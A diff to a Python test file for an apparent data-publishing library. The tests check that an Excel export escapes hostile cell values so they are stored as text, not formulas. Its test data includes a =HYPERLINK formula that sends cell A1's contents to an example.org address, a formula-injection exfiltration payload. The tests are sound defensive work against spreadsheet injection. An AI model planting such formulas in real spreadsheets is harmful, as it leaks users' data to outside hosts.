@@ -23,13 +23,14 @@ from matplotlib.text import Text
 
 from parlib import ingest
 from parlib.config.dataset import load_dataset
-from parlib.core import cells, paths
+from parlib.core import cells, paths, xlsx
 from parlib.core.storage import write_csv
 from parlib.publish import export, history_plots, markup, plots, template
 from parlib.run.cli import main as cli_main
 from parlib.score.tables import load_table
 
 from .conftest import ROOT, write_tiny
+from .test_xlsx import shared_strings
 
 HOSTILE = [
     '=HYPERLINK("http://example.org/?d="&A1,"Long An")',
@@ -153,7 +154,10 @@ def assert_no_formulas(book) -> None:
 
 
 def xlsx_text(text: str) -> str:
-    return text.replace("\r", "\n")  # XML keeps no bare CR: a reader gets a line feed
+    """The text as openpyxl reads it back: it decodes no ``_xHHHH_`` escape, so the CR that
+    XlsxWriter writes as ``_x000D_`` (Excel reads it as CR) is left so
+    (``test_results_workbook_keeps_every_hostile_name_exactly`` reads the stored text)."""
+    return text.replace("\r", "_x000D_")
 
 
 def write_results(tmp_path: Path, monkeypatch) -> Path:
@@ -170,6 +174,11 @@ def write_results(tmp_path: Path, monkeypatch) -> Path:
         "inputs": [{"path": "/srv/elsewhere/scores/2024.csv", "sha256": "0" * 64}],
     }
     return export.write_workbook(processed, tmp_path / "results.xlsx", "vi", prov)
+
+
+def test_results_workbook_keeps_every_hostile_name_exactly(tmp_path, monkeypatch):
+    stored = shared_strings(write_results(tmp_path, monkeypatch).read_bytes())
+    assert set(HOSTILE) <= set(stored)  # as Excel reads them: a CR is a CR
 
 
 def test_results_workbook_stores_hostile_names_as_text(tmp_path, monkeypatch):
@@ -190,9 +199,12 @@ def test_results_workbook_stores_hostile_names_as_text(tmp_path, monkeypatch):
     assert str(tmp_path) not in provenance and "/srv/elsewhere" not in provenance
 
 
-def test_without_the_escape_pandas_would_write_a_formula(tmp_path, monkeypatch):
-    """The hazard the escape removes (and proof that ``assert_no_formulas`` sees it)."""
-    monkeypatch.setattr(cells, "sheet", lambda worksheet: worksheet)
+def test_without_the_escape_the_writer_would_write_a_formula(tmp_path, monkeypatch):
+    """The hazard the escape removes (and proof that ``assert_no_formulas`` sees it): XlsxWriter's
+    generic ``write`` stores ``=…`` as a formula."""
+    monkeypatch.setattr(
+        xlsx.Book, "text", lambda self, sheet, row, col, text, *_: sheet.write(row, col, text)
+    )
     book = openpyxl.load_workbook(write_results(tmp_path, monkeypatch))
     with pytest.raises(AssertionError):
         assert_no_formulas(book)
